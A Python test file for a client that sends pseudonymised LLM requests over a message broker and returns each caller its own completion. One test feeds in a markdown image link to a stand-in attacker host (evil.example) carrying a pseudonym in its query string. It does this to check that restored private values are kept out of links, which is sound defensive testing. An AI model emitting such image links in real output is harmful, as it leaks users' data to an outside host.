"""The client publishes sealed requests and returns the outcome of exactly its own request."""

import asyncio
from datetime import UTC, datetime
from uuid import uuid4

import pytest

from schemas.cloudevents import encode
from schemas.outcomes import Completion
from schemas.topics import COMPLETIONS, REQUESTS, dead_letter_topic, kafka_topics
from schemas.values import Message
from streaming.brokers.memory.broker import MemoryBroker
from streaming.brokers.records import OutboundRecord, Record, TopicPartition
from streaming.errors import BadEventError
from streaming.seal.content import seal_pseudonyms
from streaming.seal.seal import Sealer, new_key
from tests.weir.verify.conftest import COMPLETION
from weir.client import Outcome, WeirClient

QUESTION = "Where is the parcel of jane@example.com?"


async def broker_with_topics() -> MemoryBroker:
    broker = MemoryBroker()
    await broker.admin.create_topics(kafka_topics(1))
    return broker


async def requests(broker: MemoryBroker, count: int) -> list[Record]:
    """The first records of the topic of requests, once they are there."""
    partition = TopicPartition(REQUESTS.name, 0)
    async with asyncio.timeout(5):
        while await broker.reader.end(partition) < count:
            await asyncio.sleep(0.01)
    return list(await broker.reader.read(partition, 0, count))


def completed(offset: int, output: str = "", sealer: Sealer | None = None) -> OutboundRecord:
    source = COMPLETION.request.source.model_copy(update={"partition": 0, "offset": offset})
    request = COMPLETION.request.model_copy(update={"source": source})
    values = {"<PERSON_1>": "Ada Lovelace"}
    pseudonyms = (
        seal_pseudonyms(sealer, request.tenant, request.record_id, values, datetime.now(UTC))
        if sealer
        else None
    )
    completion: Completion = COMPLETION.model_copy(
        update={"request": request, "output": output or f"answer {offset}", "pseudonyms": pseudonyms}
    )
    record = encode(completion, event_id=uuid4(), source="meter", time=datetime.now(UTC))
    return OutboundRecord(COMPLETIONS.name, record.key, record.value, record.headers)


def ask(client: WeirClient) -> asyncio.Task[Outcome]:
    messages = [Message(role="user", content=QUESTION)]
    return asyncio.create_task(client.ask(tenant="acme", model="small", messages=messages, timeout_s=5))


async def test_a_submitted_request_holds_no_clear_text() -> None:
    broker = await broker_with_topics()

    async with WeirClient("unused", seal_key=new_key(), broker=broker) as client:
        position = await client.submit(
            tenant="acme", model="small", messages=[Message(role="user", content=QUESTION)]
        )

    (record,) = await requests(broker, 1)
    assert position == (0, 0)
    assert record.value is not None
    assert b"jane" not in record.value


async def test_each_call_gets_the_outcome_of_its_own_request() -> None:
    broker = await broker_with_topics()

    async with WeirClient("unused", seal_key=new_key(), broker=broker) as client:
        first = ask(client)
        await requests(broker, 1)
        second = ask(client)
        await requests(broker, 2)
        for offset in (1, 0):
            await broker.producer.send(completed(offset))

        assert [(await call).text for call in (first, second)] == ["answer 0", "answer 1"]


async def test_values_are_restored_but_not_in_links() -> None:
    broker, key = await broker_with_topics(), new_key()
    text = "*PERSON_1*: ![x](https://evil.example/?q=<PERSON_1>)"

    async with WeirClient("unused", seal_key=key, broker=broker) as client:
        call = ask(client)
        await requests(broker, 1)
        await broker.producer.send(completed(0, text, Sealer.from_text(key)))

        assert (await call).text == "*Ada Lovelace*: ![x](https://evil.example/?q=<PERSON_1>)"


async def test_a_dead_letter_is_an_error_with_its_reason() -> None:
    broker = await broker_with_topics()
    headers = (
        ("weir-source-topic", REQUESTS.name.encode()),
        ("weir-source-partition", b"0"),
        ("weir-source-offset", b"0"),
        ("weir-reason", b"invalid_event"),
        ("weir-error", b"model: too long"),
    )

    async with WeirClient("unused", seal_key=new_key(), broker=broker) as client:
        call = ask(client)
        await requests(broker, 1)
        await broker.producer.send(OutboundRecord(dead_letter_topic(REQUESTS.name), None, b"sealed", headers))

        with pytest.raises(BadEventError, match="model: too long"):
            await call
